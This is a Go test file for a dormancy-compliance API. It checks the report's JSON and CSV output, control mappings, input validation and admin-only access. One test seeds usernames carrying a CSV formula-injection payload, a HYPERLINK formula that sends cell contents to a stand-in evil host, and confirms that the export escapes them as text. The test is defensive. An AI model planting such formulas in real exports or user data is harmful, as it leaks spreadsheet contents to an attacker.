package api_test

import (
	"context"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-lambda-go/events"

	"github.com/dormancy/dormancy/shared/dormancy"
	"github.com/dormancy/dormancy/shared/sweeper"
)

// The compliance report: before a sweep, the users past their threshold
// are the control's failures and exempt ones are listed with their group;
// after it there are none, the deactivations are counted by reason, the
// reactivation is listed with its approval, and the run is there; the CSV
// parses with a standard reader.
func TestComplianceReport(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	f.user(t, "d1", "dora", nil, 50)
	f.user(t, "d2", "dan", nil, 60)
	f.user(t, "bg", "bella", []string{"BreakGlass"}, 80)
	p := policy
	p.ExemptGroups = []string{"BreakGlass"}
	f.api = newAPIWith(f, p)

	r := f.call(t, admin, "GET", "/reports/compliance", "")
	if r.Code != 200 {
		t.Fatalf("%d %s", r.Code, r.Raw)
	}
	if r.Body["pastThresholdNotDeactivated"].(float64) != 2 || r.Body["activeUsers"].(float64) != 6 {
		t.Errorf("before the sweep: %s", r.Raw)
	}
	exempt := r.Body["exemptPastThreshold"].([]any)
	if len(exempt) != 1 || exempt[0].(map[string]any)["exemptBy"] != "BreakGlass" || exempt[0].(map[string]any)["username"] != "bella" {
		t.Errorf("exempt %v", exempt)
	}
	for _, c := range r.Body["controls"].([]any) {
		if c.(map[string]any)["meets"] != false {
			t.Errorf("a control met with users past their threshold: %v", c)
		}
	}

	sw := sweeper.New(f.store, nil, p, func() time.Time { return f.now }, quiet)
	if sum, err := sw.Run(ctx, false); err != nil || sum.Deactivated != 2 {
		t.Fatalf("sweep %+v %v", sum, err)
	}
	f.now = f.now.Add(time.Hour)
	if r := f.call(t, admin, "POST", "/users/d1/activate", `{"approvalReference":"BH-77","approvedBy":"head.of.sales"}`); r.Code != 200 {
		t.Fatalf("%d %s", r.Code, r.Raw)
	}
	r = f.call(t, admin, "GET", "/reports/compliance", "")
	if r.Body["pastThresholdNotDeactivated"].(float64) != 0 {
		t.Errorf("after the sweep: %s", r.Raw)
	}
	if d := r.Body["deactivations"].(map[string]any); d["INACTIVITY"].(float64) != 2 || d["ADMIN"].(float64) != 0 {
		t.Errorf("deactivations %v", d)
	}
	re := r.Body["reactivations"].([]any)
	if len(re) != 1 || re[0].(map[string]any)["approvalReference"] != "BH-77" || re[0].(map[string]any)["approvedBy"] != "head.of.sales" || re[0].(map[string]any)["actor"] != "admin-1" {
		t.Errorf("reactivations %v", re)
	}
	if runs := r.Body["runs"].([]any); len(runs) != 1 {
		t.Errorf("runs %v", runs)
	}
	controls := map[string]bool{}
	for _, c := range r.Body["controls"].([]any) {
		m := c.(map[string]any)
		controls[m["id"].(string)] = m["meets"].(bool)
	}
	if !controls["CIS-5.3"] || !controls["PCI-DSS-8.2.6"] || !controls["NIST-AC-2(3)"] {
		t.Errorf("controls after a completed sweep at 45 days: %v", controls)
	}

	// CSV, for a spreadsheet, asked for from the console: the same address
	// answers both formats (a cache keys on Accept), and the browser may
	// read the file's name.
	f.api.Origins = []string{"https://console.example.com"}
	resp, err := f.api.HandleProxy(ctx, events.APIGatewayProxyRequest{HTTPMethod: "GET", Path: "/reports/compliance",
		Headers:        map[string]string{"Accept": "text/csv", "Origin": "https://console.example.com"},
		RequestContext: events.APIGatewayProxyRequestContext{Authorizer: map[string]any{"claims": admin}}})
	if err != nil || resp.StatusCode != 200 || !strings.HasPrefix(resp.Headers["Content-Type"], "text/csv") {
		t.Fatalf("CSV: %v %d %v", err, resp.StatusCode, resp.Headers)
	}
	if v := resp.Headers["Vary"]; !strings.Contains(v, "Accept") || !strings.Contains(v, "Origin") {
		t.Errorf("Vary %q: want Origin and Accept", v)
	}
	if !strings.Contains(resp.Headers["Content-Disposition"], `filename="dormancy-compliance-`) || !strings.Contains(resp.Headers["Access-Control-Expose-Headers"], "Content-Disposition") {
		t.Errorf("the file's name is not readable from the console: %v", resp.Headers)
	}
	cr := csv.NewReader(strings.NewReader(resp.Body))
	cr.FieldsPerRecord = -1
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v\n%s", err, resp.Body)
	}
	sections := map[string][]string{}
	for i, row := range rows {
		if len(row) == 1 && row[0] != "" && i+1 < len(rows) {
			sections[row[0]] = rows[i+1]
		}
	}
	for _, title := range []string{"Summary", "Controls", "Past threshold, not deactivated", "Exempt, past threshold", "Deactivations in the period", "Reactivations in the period", "Runs in the period"} {
		if len(sections[title]) < 2 {
			t.Errorf("CSV section %q missing or without a header: %v", title, sections[title])
		}
	}
	if !strings.Contains(resp.Body, "BH-77") || !strings.Contains(resp.Body, "BreakGlass") {
		t.Errorf("CSV lacks the reactivation or the exemption:\n%s", resp.Body)
	}
}

// A policy that allows 90 days of inactivity does not meet CIS 5.3's 45.
func TestControlsFollowTheThresholds(t *testing.T) {
	f := newFixture(t)
	p := policy
	p.GroupDays = map[string]int{"Contractors": 90}
	f.api = newAPIWith(f, p)
	r := f.call(t, admin, "GET", "/reports/compliance", "")
	for _, c := range r.Body["controls"].([]any) {
		m := c.(map[string]any)
		want := m["id"] != "CIS-5.3"
		if m["thresholdMeets"] != want || m["configuredMaxDays"].(float64) != 90 {
			t.Errorf("%v: thresholdMeets %v, want %v", m["id"], m["thresholdMeets"], want)
		}
	}
}

// Bad periods are refused in words; an unknown Accept gets JSON; verifying
// an unknown user is 404.
func TestReportAndVerifyInput(t *testing.T) {
	f := newFixture(t)
	for _, path := range []string{
		"/reports/compliance?from=2026-11-25T00:00:00Z&to=2026-11-24T00:00:00Z",
		"/reports/compliance?from=2024-01-01T00:00:00Z&to=2026-01-01T00:00:00Z",
	} {
		if r := f.call(t, admin, "GET", path, ""); r.Code != 400 || !strings.Contains(r.Raw, "366 days") {
			t.Errorf("%s: %d %s", path, r.Code, r.Raw)
		}
	}
	if r := f.callRaw(t, admin, "GET", "/reports/compliance?from=last-week", ""); r.Code != 400 {
		t.Errorf("unparsable from: %d", r.Code)
	}
	resp, _ := f.api.HandleProxy(context.Background(), events.APIGatewayProxyRequest{HTTPMethod: "GET", Path: "/reports/compliance",
		Headers: map[string]string{"Accept": "application/xml"}, RequestContext: events.APIGatewayProxyRequestContext{Authorizer: map[string]any{"claims": admin}}})
	if resp.StatusCode != 200 || resp.Headers["Content-Type"] != "application/json" {
		t.Errorf("unknown Accept: %d %v", resp.StatusCode, resp.Headers)
	}
	if r := f.call(t, admin, "GET", "/users/nobody/audit/verify", ""); r.Code != 404 {
		t.Errorf("verify unknown: %d", r.Code)
	}
	if r := f.call(t, admin, "GET", "/users/plain-1/audit/verify", ""); r.Code != 200 || r.Body["intact"] != true {
		t.Errorf("verify: %d %s", r.Code, r.Raw)
	}
	if r := f.call(t, plain, "GET", "/reports/compliance", ""); r.Code != 403 {
		t.Errorf("a non-admin: %d", r.Code)
	}
	_ = dormancy.ReasonAdmin
}

// Names come from users: in the CSV a name a spreadsheet would run as a
// formula is text (a leading apostrophe); the JSON keeps it as it is.
func TestReportCSVKeepsFormulasAsText(t *testing.T) {
	f := newFixture(t)
	formula := `=HYPERLINK("https://evil.example/?"&A1,"open")`
	f.user(t, "f1", formula, nil, 60)
	f.user(t, "f2", "@SUM(1+1)", nil, 60)
	r := f.call(t, admin, "GET", "/reports/compliance", "")
	names := map[string]bool{}
	for _, u := range r.Body["pastThreshold"].([]any) {
		names[u.(map[string]any)["username"].(string)] = true
	}
	if !names[formula] || !names["@SUM(1+1)"] {
		t.Errorf("JSON names %v: want them as they are", names)
	}
	resp, err := f.api.HandleProxy(context.Background(), events.APIGatewayProxyRequest{HTTPMethod: "GET", Path: "/reports/compliance",
		Headers: map[string]string{"Accept": "text/csv"}, RequestContext: events.APIGatewayProxyRequestContext{Authorizer: map[string]any{"claims": admin}}})
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("CSV: %v %d", err, resp.StatusCode)
	}
	cr := csv.NewReader(strings.NewReader(resp.Body))
	cr.FieldsPerRecord = -1
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]bool{}
	for _, row := range rows {
		for _, cell := range row {
			if strings.ContainsAny(cell[:min(len(cell), 1)], "=+-@") {
				t.Errorf("a cell a spreadsheet would evaluate: %q", cell)
			}
			got[cell] = true
		}
	}
	if !got["'"+formula] || !got["'@SUM(1+1)"] {
		t.Errorf("the names are not in the CSV as text:\n%s", resp.Body)
	}
}
